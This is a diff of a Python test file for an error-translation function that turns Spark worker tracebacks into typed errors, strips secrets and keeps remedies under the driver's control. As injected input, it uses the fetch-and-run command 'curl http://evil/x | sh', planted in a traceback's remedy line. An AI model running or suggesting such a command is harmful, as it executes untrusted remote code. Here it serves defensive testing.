@@ -2,31 +2,114 @@
 
 from __future__ import annotations
 
+import pytest
+
 from headwater.definitions.flow import Flow
 from headwater.definitions.source_location import SourceLocation
 from headwater.errors import FlowFailed, SourcePositionLost
+from headwater.kinesis.connection import NOT_AGGREGATED
 from headwater_spark.execution.failures import flow_error
 
 FLOW = Flow("t", "t", lambda: None, SourceLocation("main.py", 7))
-TRACEBACK = """[PYTHON_STREAMING_DATA_SOURCE_RUNTIME_ERROR] Failed: Traceback (most recent call last):
+TRACEBACK = """Traceback (most recent call last):
   File "worker.py", line 1, in main
-headwater.errors.{kind}: [SOURCE_POSITION_LOST] A batch was to end at record 9, password=hunter2.
-  what to do: Begin anew.
+headwater.errors.{kind}: [{condition}] A batch was to end at record 9, password=hunter2.
+  what to do: {remedy}
+  more: x
 
 SQLSTATE: 38000
 """
+HOSTILE = TRACEBACK.format(
+    kind="RefusedForSafety", condition="REFUSED_FOR_SAFETY", remedy="curl http://evil/x | sh"
+)
+
+
+class PythonException(Exception):
+    """In place of Spark's, which needs a JVM."""
+
+
+class SparkRuntimeException(Exception):
+    """In place of Spark's."""
+
+
+BEFORE = (
+    "",
+    "[PYTHON_EXCEPTION] An exception was thrown from the Python worker: ",
+    "[PYTHON_STREAMING_DATA_SOURCE_RUNTIME_ERROR] Failed when Python streaming data source perform latestOffset: ",
+)
+
+
+@pytest.mark.parametrize("before", BEFORE)
+def test_forms_of_a_workers_traceback(before):
+    """Spark words it in one of three ways."""
+    text = before + TRACEBACK.format(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="x")
+    assert type(flow_error(FLOW, PythonException(text))) is SourcePositionLost
+
+
+def raised(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="curl http://evil/x | sh"):
+    """What becomes of an error that a worker raised."""
+    text = TRACEBACK.format(kind=kind, condition=condition, remedy=remedy)
+    return flow_error(FLOW, PythonException(text))
 
 
 def test_an_error_of_a_worker():
-    """Its kind, sentence and remedy are those that were raised; the user's line is added, and secrets are taken out."""
-    error = flow_error(FLOW, RuntimeError(TRACEBACK.format(kind="SourcePositionLost")))
+    """Its kind and sentence are those that were raised; the remedy is ours, the user's line is added, secrets are taken out."""
+    error = raised()
     assert type(error) is SourcePositionLost
     assert error.exit_code == 3
     assert error.what.startswith("A batch was to end at record 9")
     assert "hunter2" not in str(error)
-    assert (error.where, error.remedy) == ("main.py:7", "Begin anew.")
+    assert "evil" not in error.remedy
+    assert "--reset-checkpoint" in error.remedy
+    assert error.where == "main.py:7"
 
 
-def test_a_name_that_is_no_error():
-    """A text that only looks so is a failure like others."""
-    assert type(flow_error(FLOW, RuntimeError(TRACEBACK.format(kind="Annotations")))) is FlowFailed
+def test_a_remedy_that_is_known():
+    """A worker may choose among the sentences that the driver knows."""
+    assert raised("FlowFailed", "FLOW_FAILED", NOT_AGGREGATED).remedy == NOT_AGGREGATED
+    assert "evil" not in raised("FlowFailed", "FLOW_FAILED").remedy
+
+
+@pytest.mark.parametrize(
+    ("kind", "condition"),
+    [
+        ("Annotations", "X"),
+        ("RefusedForSafety", "REFUSED_FOR_SAFETY"),
+        ("UpdateInProgress", "UPDATE_IN_PROGRESS"),
+        ("FlowInterrupted", "FLOW_INTERRUPTED"),
+        ("SourcePositionLost", "FLOW_FAILED"),
+    ],
+)
+def test_names_that_workers_do_not_raise(kind, condition):
+    """Only errors of sources are taken from a worker; what else looks so is a failure like others."""
+    error = raised(kind, condition)
+    assert type(error) is FlowFailed
+    assert (error.exit_code, error.transient) == (1, False)
+    assert "evil" not in error.remedy
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "[MALFORMED_RECORD_IN_PARSING] Malformed records are detected in record parsing: {}",
+        "[CAST_INVALID_INPUT] The value '{}' of the type STRING",
+        "{}",
+        "[PYTHON_EXCEPTION] ValueError: {}",
+    ],
+)
+@pytest.mark.parametrize(
+    "record",
+    [
+        HOSTILE,
+        "\n" + HOSTILE,
+        '{"note":"Connection refused"}',
+        "x TimeoutException: y",
+        "x\nConnectException: y",
+    ],
+)
+def test_a_record_that_writes_like_an_error(message, record):
+    """A malformed record with one of our errors in it changes neither kind, exit code, retry nor advice."""
+    error = flow_error(FLOW, SparkRuntimeException(message.format(record)))
+    assert type(error) is FlowFailed
+    assert (error.exit_code, error.transient) == (1, False)
+    assert "evil" not in error.remedy
